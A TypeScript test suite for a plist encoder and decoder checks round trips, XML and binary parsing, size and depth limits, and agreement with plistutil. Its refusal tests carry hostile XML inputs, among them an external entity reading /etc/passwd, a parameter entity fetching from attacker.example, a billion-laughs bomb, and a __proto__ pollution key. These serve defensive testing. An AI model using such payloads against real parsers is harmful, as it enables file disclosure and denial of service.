// Property lists: what Muster writes reads back the same; XML with Apple's
// DOCTYPE line is read, entity declarations and DTD subsets are refused;
// binary plists (written here by hand and by the plist package's independent
// writer) are read within their bounds; and plistutil (libplist, the reader
// and writer libimobiledevice uses) agrees with both directions.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildBinary } from 'plist';
import { afterAll, describe, expect, it } from 'vitest';
import { DEFAULT_PLIST_LIMITS, PlistError, decodePlist, encodePlist, type PlistValue } from '../../protocols/apple/plist.js';
import { missingTool } from '../support/tools.js';

const noPlistutil = missingTool('plistutil', 'libplist-utils');

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n';
const xml = (body: string, head = HEAD): Buffer => Buffer.from(`${head}<plist version="1.0">${body}</plist>\n`, 'utf8');

/** Everything a plist can hold, nested. */
const SAMPLE = {
  string: 'plain',
  escaped: `<tag> & "quotes" 'apostrophes' ]]> &amp;`,
  unicode: 'Grüße, 日本, 🎉',
  whitespace: '  leading and trailing\n\tlines  ',
  empty: '',
  int: 42,
  negative: -17,
  zero: 0,
  large: 2 ** 52 + 1,
  real: 3.25,
  tiny: -1.5e-10,
  yes: true,
  no: false,
  date: new Date('2025-06-30T12:34:56Z'),
  data: Buffer.from([0, 1, 2, 253, 254, 255]),
  emptyData: Buffer.alloc(0),
  list: [1, 'two', [3, [4]], { five: 5 }],
  emptyList: [],
  emptyDict: {},
  nested: { 'key with spaces': { 'Key Usage': 5 }, Subject: [[['CN', 'device']], [['O', 'Muster']]] },
};

describe('encodePlist / decodePlist round trips', () => {
  it.each([
    ['a dictionary of every type', SAMPLE],
    ['a top-level string', 'just a string'],
    ['a top-level integer', 7],
    ['a top-level array', [true, false]],
    ['a top-level data', Buffer.from('bytes')],
  ])('%s', (_name, value) => {
    const bytes = encodePlist(value);
    expect(bytes.toString('utf8')).toMatch(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n<!DOCTYPE plist PUBLIC/);
    expect(decodePlist(bytes)).toEqual(value);
    expect(decodePlist(bytes.toString('utf8'))).toEqual(value);
  });

  it('reads data as a Buffer, integers and reals as numbers, dates as Dates', () => {
    const v = decodePlist(encodePlist(SAMPLE)) as Record<string, PlistValue>;
    expect(Buffer.isBuffer(v.data)).toBe(true);
    expect(v.date).toBeInstanceOf(Date);
    expect(encodePlist(SAMPLE).toString()).toContain('<integer>4503599627370497</integer>');
    expect(encodePlist(SAMPLE).toString()).toContain('<real>3.25</real>');
  });

  it('leaves out dictionary keys whose value is undefined', () => {
    expect(decodePlist(encodePlist({ a: 1, b: undefined }))).toEqual({ a: 1 });
  });

  it.each([
    ['null', { a: null }, /\$\.a: null has no plist form/],
    ['NaN', { a: NaN }, /NaN has no plist form/],
    ['Infinity', [Infinity], /Infinity has no plist form/],
    ['an integer beyond 2^53', { n: 2 ** 60 }, /beyond 2\^53/],
    ['a function', { f: () => 1 }, /function has no plist form/],
    ['a bigint', { b: 1n }, /bigint has no plist form/],
    ['undefined in an array', [1, undefined], /undefined in an array/],
    ['a control character', { s: 'a\u0001b' }, /character XML cannot carry/],
    ['a lone surrogate', { s: 'a\uD800b' }, /character XML cannot carry/],
    ['an invalid date', { d: new Date('nope') }, /invalid date/],
    ['a class instance', { m: new Map() }, /only plain objects/],
  ])('refuses to write %s', (_name, value, message) => {
    expect(() => encodePlist(value)).toThrow(PlistError);
    expect(() => encodePlist(value)).toThrow(message);
  });

  it('refuses to write a cycle', () => {
    const a: Record<string, unknown> = { x: 1 };
    a.self = a;
    expect(() => encodePlist(a)).toThrow(/contains itself/);
  });

  it('reads a __proto__ key as an ordinary key, without touching any prototype', () => {
    const v = decodePlist(xml('<dict><key>__proto__</key><dict><key>polluted</key><true/></dict></dict>')) as Record<string, unknown>;
    expect(Object.prototype.hasOwnProperty.call(v, '__proto__')).toBe(true);
    expect(Object.getPrototypeOf(v)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('reading XML', () => {
  it.each([
    ['with the DOCTYPE line', xml('<string>x</string>')],
    ['without a DOCTYPE', xml('<string>x</string>', '<?xml version="1.0" encoding="UTF-8"?>\n')],
    ['without an XML declaration', xml('<string>x</string>', '')],
    ['with a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), xml('<string>x</string>')])],
    ['with comments around and inside', Buffer.from(`${HEAD}<!-- a --><plist version="1.0"><!-- b --><string>x</string><!-- c --></plist><!-- d -->\n`)],
    ['with a SYSTEM DOCTYPE', xml('<string>x</string>', '<!DOCTYPE plist SYSTEM "file://localhost/System/Library/DTDs/PropertyList.dtd">\n')],
    ['with CDATA', xml('<string><![CDATA[x]]></string>')],
    ['with character references', xml('<string>&#x78;</string>')],
  ])('reads a plist %s', (_name, bytes) => {
    expect(decodePlist(bytes)).toBe('x');
  });

  it('reads what Apple writes: tabs, multi-line data, self-closing elements, empty strings', () => {
    const text = `${HEAD}<plist version="1.0">
<dict>
\t<key>Token</key>
\t<data>
\tAAEC
\tAwQF
\t</data>
\t<key>AwaitingConfiguration</key>
\t<false/>
\t<key>Empty</key>
\t<string/>
\t<key>Items</key>
\t<array/>
\t<key>Ratio</key>
\t<real>0.5</real>
\t<key>Count</key>
\t<integer> 12 </integer>
</dict>
</plist>
`;
    expect(decodePlist(Buffer.from(text))).toEqual({ Token: Buffer.from([0, 1, 2, 3, 4, 5]), AwaitingConfiguration: false, Empty: '', Items: [], Ratio: 0.5, Count: 12 });
  });

  it('reads nan and inf reals as CoreFoundation writes them', () => {
    expect(decodePlist(xml('<array><real>nan</real><real>inf</real><real>-inf</real></array>'))).toEqual([NaN, Infinity, -Infinity]);
  });

  describe('never expands an entity', () => {
    it.each([
      ['an internal entity', '<!DOCTYPE plist [<!ENTITY x "boom">]>\n', '<string>&x;</string>'],
      ['an external entity', '<!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', '<string>&x;</string>'],
      ['a parameter entity', '<!DOCTYPE plist [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n', '<string>x</string>'],
      [
        'the billion laughs',
        '<!DOCTYPE plist [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>\n',
        '<string>&c;</string>',
      ],
      ['an entity declared after the DOCTYPE line', '', '<!ENTITY x "boom"><string>&x;</string>'],
    ])('refuses %s', (_name, doctype, body) => {
      expect(() => decodePlist(xml(body, `<?xml version="1.0"?>\n${doctype}`))).toThrow(/entity declarations are refused/);
    });

    it('refuses an internal DTD subset even without entities', () => {
      expect(() => decodePlist(xml('<string>x</string>', '<!DOCTYPE plist [<!ELEMENT plist ANY>]>\n'))).toThrow(/internal subset is refused/);
    });

    it('refuses a DOCTYPE for another document type', () => {
      expect(() => decodePlist(xml('<string>x</string>', '<!DOCTYPE html>\n'))).toThrow(/only <!DOCTYPE plist/);
    });

    it('refuses an undefined entity reference instead of passing it through', () => {
      expect(() => decodePlist(xml('<string>&x;</string>'))).toThrow(/entity &x; is not defined/);
    });
  });

  it.each([
    ['an unclosed element', '<dict><key>a</key><string>b</dict>', /expected <\/string>/],
    ['a wrong root', null, /root element must be <plist>/],
    ['two values', '<string>a</string><string>b</string>', /expected <\/plist>/],
    ['no value', '', /expected an element/],
    ['an unknown element', '<foo/>', /<foo> is not a plist element/],
    ['a key without a value', '<dict><key>a</key></dict>', /key "a" has no value/],
    ['a value without a key', '<dict><string>a</string></dict>', /expected <key> in <dict>/],
    ['a duplicate key', '<dict><key>a</key><true/><key>a</key><false/></dict>', /duplicate key "a"/],
    ['a non-integer', '<integer>12abc</integer>', /not a decimal integer/],
    ['an integer beyond 2^53', '<integer>9007199254740993</integer>', /beyond 2\^53/],
    ['a non-number real', '<real>1.2.3</real>', /not a number/],
    ['a malformed date', '<date>2025-06-31T00:00:00Z</date>', /not YYYY-MM-DDTHH:MM:SSZ/],
    ['a date in another format', '<date>30 June 2025</date>', /not YYYY-MM-DDTHH:MM:SSZ/],
    ['data that is not base64', '<data>!!!!</data>', /not base64/],
    ['text in <true/>', '<true>yes</true>', /must be empty/],
    ['an element inside a string', '<string>a<b/>c</string>', /unexpected element inside <string>/],
    ['a bare ampersand', '<string>a & b</string>', /bare &/],
    ['an illegal character reference', '<string>&#0;</string>', /not a legal XML character/],
  ])('refuses %s', (_name, body, message) => {
    const bytes = body === null ? Buffer.from(`${HEAD}<dict/>`) : xml(body);
    expect(() => decodePlist(bytes)).toThrow(PlistError);
    expect(() => decodePlist(bytes)).toThrow(message);
  });

  it('refuses content after </plist>, UTF-16 and invalid UTF-8, and empty input', () => {
    expect(() => decodePlist(Buffer.concat([xml('<true/>'), Buffer.from('garbage')]))).toThrow(/content after <\/plist>/);
    expect(() => decodePlist(Buffer.from('\ufeff<plist><true/></plist>', 'utf16le'))).toThrow(/UTF-16/);
    expect(() => decodePlist(Buffer.from([0x3c, 0x70, 0xff, 0xfe, 0x3e]))).toThrow(/not valid UTF-8/);
    expect(() => decodePlist(Buffer.alloc(0))).toThrow(/empty input/);
  });

  it('reads 64 levels of nesting and refuses 65 (arrays and dictionaries alike)', () => {
    const arrays = (n: number): Buffer => xml(`${'<array>'.repeat(n)}${'</array>'.repeat(n)}`);
    const dicts = (n: number): Buffer => xml(`${'<dict><key>k</key>'.repeat(n - 1)}<dict/>${'</dict>'.repeat(n - 1)}`);
    expect(() => decodePlist(arrays(64))).not.toThrow();
    expect(() => decodePlist(dicts(64))).not.toThrow();
    expect(() => decodePlist(arrays(65))).toThrow(/nested more than 64 levels/);
    expect(() => decodePlist(dicts(65))).toThrow(/nested more than 64 levels/);
    // A depth bomb far past any stack: refused at level 65, not by a stack overflow.
    expect(() => decodePlist(arrays(100_000), { maxBytes: 10_000_000 })).toThrow(/nested more than 64 levels/);
  });

  it('refuses more values than the limit', () => {
    const many = xml(`<array>${'<true/>'.repeat(1001)}</array>`);
    expect(() => decodePlist(many, { maxObjects: 1000 })).toThrow(/more than 1000 values/);
    expect(decodePlist(many, { maxObjects: 1002 })).toHaveLength(1001);
  });

  it('refuses input over the size limit before reading it', () => {
    const bytes = xml(`<string>${'a'.repeat(2000)}</string>`);
    expect(() => decodePlist(bytes, { maxBytes: 1000 })).toThrow(/plist of \d+ bytes is over the limit of 1000/);
    expect(() => decodePlist(Buffer.alloc(DEFAULT_PLIST_LIMITS.maxBytes + 1, 0x20))).toThrow(/over the limit of 8388608/);
    expect(decodePlist(bytes, { maxBytes: bytes.length })).toHaveLength(2000);
  });
});

// ------------------------------------------------------------ binary plists

/** A bplist00 from encoded objects: 1-byte offsets are too small for tests that need room, so 2-byte offsets and `refSize`-byte references. */
function bplist(objects: Buffer[], top = 0, o: { refSize?: number; numObjects?: number; tableOffset?: number } = {}): Buffer {
  const header = Buffer.from('bplist00', 'latin1');
  const offsets: number[] = [];
  let pos = header.length;
  for (const obj of objects) {
    offsets.push(pos);
    pos += obj.length;
  }
  const table = Buffer.alloc(offsets.length * 2);
  offsets.forEach((off, i) => table.writeUInt16BE(off, i * 2));
  const trailer = Buffer.alloc(32);
  trailer[6] = 2;
  trailer[7] = o.refSize ?? 1;
  trailer.writeBigUInt64BE(BigInt(o.numObjects ?? objects.length), 8);
  trailer.writeBigUInt64BE(BigInt(top), 16);
  trailer.writeBigUInt64BE(BigInt(o.tableOffset ?? pos), 24);
  return Buffer.concat([header, ...objects, table, trailer]);
}
const ascii = (s: string): Buffer => Buffer.concat([Buffer.from([0x50 | s.length]), Buffer.from(s, 'latin1')]);
const array = (...refs: number[]): Buffer => Buffer.from([0xa0 | refs.length, ...refs]);
const dict = (keys: number[], values: number[]): Buffer => Buffer.from([0xd0 | keys.length, ...keys, ...values]);

describe('reading binary plists', () => {
  it('reads what an independent writer (the plist package) writes', () => {
    const value = { ...SAMPLE, data: new Uint8Array([0, 1, 2, 253, 254, 255]), emptyData: new Uint8Array() };
    const bin = Buffer.from(buildBinary(value));
    expect(bin.subarray(0, 8).toString('latin1')).toBe('bplist00');
    expect(decodePlist(bin)).toEqual(SAMPLE);
  });

  it('reads every scalar type written by hand', () => {
    const objects = [
      dict([1, 2, 3, 4, 5, 6, 7, 8, 9, 10], [11, 12, 13, 14, 15, 16, 17, 18, 19, 20]),
      ...['t', 'f', 'i8', 'i64', 'neg', 'f32', 'date', 'data', 'utf16', 'uid'].map(ascii),
      Buffer.from([0x09]),
      Buffer.from([0x08]),
      Buffer.from([0x10, 0xff]),
      Buffer.concat([Buffer.from([0x13]), Buffer.from('0000010000000000', 'hex')]),
      Buffer.concat([Buffer.from([0x13]), Buffer.from('fffffffffffffffe', 'hex')]),
      Buffer.concat([Buffer.from([0x22]), Buffer.from('3fc00000', 'hex')]),
      (() => {
        const b = Buffer.alloc(9);
        b[0] = 0x33;
        b.writeDoubleBE(86_400, 1); // one day after 2001-01-01
        return b;
      })(),
      Buffer.from([0x43, 1, 2, 3]),
      // 3 UTF-16 units: é and a surrogate pair
      Buffer.concat([Buffer.from([0x63]), Buffer.from('00e9d83cdf89', 'hex')]),
      Buffer.from([0x80, 0x07]),
    ];
    expect(decodePlist(bplist(objects))).toEqual({
      t: true,
      f: false,
      i8: 255,
      i64: 2 ** 40,
      neg: -2,
      f32: 1.5,
      date: new Date('2001-01-02T00:00:00Z'),
      data: Buffer.from([1, 2, 3]),
      utf16: 'é🎉',
      uid: { CF$UID: 7 },
    });
  });

  it('reads lengths of 15 and more from the integer after the marker', () => {
    const long = 'x'.repeat(300);
    const obj = Buffer.concat([Buffer.from([0x5f, 0x11, 0x01, 0x2c]), Buffer.from(long, 'latin1')]);
    expect(decodePlist(bplist([obj]))).toBe(long);
  });

  it('reads a set as an array and a shared object once per place it appears', () => {
    expect(decodePlist(bplist([Buffer.from([0xc2, 1, 1]), ascii('same')]))).toEqual(['same', 'same']);
  });

  it('refuses nesting deeper than the limit (a depth bomb)', () => {
    const levels = 100;
    const objects = Array.from({ length: levels }, (_, i) => array(i + 1));
    objects.push(ascii('x'));
    expect(() => decodePlist(bplist(objects))).toThrow(/nested more than 64 levels/);
    expect(() => decodePlist(bplist(objects), { maxDepth: 128 })).not.toThrow();
  });

  it('refuses a reference cycle', () => {
    expect(() => decodePlist(bplist([array(0)]))).toThrow(/object 0 contains itself/);
    expect(() => decodePlist(bplist([array(1), array(0)]))).toThrow(/contains itself/);
  });

  it('refuses sharing that would expand into more values than the limit (2^40 from 41 objects)', () => {
    const objects = Array.from({ length: 40 }, (_, i) => array(i + 1, i + 1));
    objects.push(ascii('x'));
    expect(() => decodePlist(bplist(objects))).toThrow(/more than 500000 values/);
  });

  it('refuses an object count over the limit from the trailer, before reading objects', () => {
    expect(() => decodePlist(bplist([ascii('x')], 0, { numObjects: 2 ** 40 }))).toThrow(/objects, more than the limit/);
  });

  it.each([
    ['a top object outside the table', bplist([ascii('x')], 5), /top object is not in the offset table/],
    ['an offset table past the trailer', bplist([ascii('x')], 0, { tableOffset: 10_000 }), /offset table is not between/],
    ['a reference past the objects', bplist([array(9), ascii('x')]), /reference 9 is beyond the 2 objects/],
    ['a string longer than the data', bplist([Buffer.from([0x5f, 0x10, 0xff, 0x61])]), /string runs past the object area/],
    ['an array longer than the data', bplist([Buffer.from([0xaf, 0x10, 0x7f, 0x00])]), /array runs past the object area/],
    ['a non-string dictionary key', bplist([dict([1], [1]), Buffer.from([0x09])]), /key that is not a string/],
    ['a null', bplist([Buffer.from([0x00])]), /null has no place/],
    ['an unknown marker', bplist([Buffer.from([0x70])]), /unknown object marker 0x70/],
    ['an integer beyond 2^53', bplist([Buffer.concat([Buffer.from([0x13]), Buffer.from('7fffffffffffffff', 'hex')])]), /beyond 2\^53/],
    ['another version', Buffer.concat([Buffer.from('bplist15'), Buffer.alloc(40)]), /only bplist00/],
    ['a truncated file', Buffer.from('bplist00\x09', 'latin1'), /too short/],
  ])('refuses %s', (_name, bytes, message) => {
    expect(() => decodePlist(bytes)).toThrow(PlistError);
    expect(() => decodePlist(bytes)).toThrow(message);
  });

  it('refuses a binary plist over the size limit', () => {
    const bin = Buffer.from(buildBinary({ s: 'y'.repeat(5000) }));
    expect(() => decodePlist(bin, { maxBytes: 4096 })).toThrow(/over the limit of 4096/);
  });
});

// ----------------------------------------------------------------- plistutil

describe.skipIf(!!noPlistutil)('cross-checked with plistutil (libplist)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'muster-plist-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const plistutil = (input: string, output: string, format: 'bin' | 'xml'): void => {
    execFileSync('plistutil', ['-i', input, '-o', output, '-f', format], { stdio: ['ignore', 'ignore', 'pipe'] });
  };

  it.each([
    ['a dictionary of every type', SAMPLE],
    ['many keys and a long string', Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`key${i}`, i % 2 ? 'v'.repeat(i) : i * 1000]))],
    // Over 65,536 objects: libplist writes 3-byte offsets and references.
    ['an application list of 25,000 entries', { InstalledApplicationList: Array.from({ length: 25_000 }, (_, i) => ({ Identifier: `com.example.app${i}`, BundleSize: i * 4096 })) }],
  ])('plistutil reads what Muster writes (%s), and Muster reads what plistutil writes from it', (name, value) => {
    const src = join(dir, `${name}.xml`);
    writeFileSync(src, encodePlist(value));
    const bin = join(dir, `${name}.bin`);
    const back = join(dir, `${name}.back.xml`);
    plistutil(src, bin, 'bin');
    plistutil(bin, back, 'xml');
    const binBytes = readFileSync(bin);
    expect(binBytes.subarray(0, 8).toString('latin1')).toBe('bplist00');
    expect(decodePlist(binBytes)).toEqual(value);
    expect(decodePlist(readFileSync(back))).toEqual(value);
  });

  it('Muster reads plistutil XML and binary written from a hand-written XML plist', () => {
    const src = join(dir, 'hand.xml');
    writeFileSync(
      src,
      `${HEAD}<plist version="1.0"><dict><key>UDID</key><string>0000-ABC</string><key>Token</key><data>3q2+7w==</data><key>When</key><date>2024-02-29T23:59:59Z</date><key>Caps</key><array><integer>-5</integer><real>2.5</real><true/></array></dict></plist>`,
    );
    const expected = { UDID: '0000-ABC', Token: Buffer.from('deadbeef', 'hex'), When: new Date('2024-02-29T23:59:59Z'), Caps: [-5, 2.5, true] };
    plistutil(src, join(dir, 'hand.bin'), 'bin');
    plistutil(join(dir, 'hand.bin'), join(dir, 'hand.back.xml'), 'xml');
    expect(decodePlist(readFileSync(join(dir, 'hand.bin')))).toEqual(expected);
    expect(decodePlist(readFileSync(join(dir, 'hand.back.xml')))).toEqual(expected);
  });
});
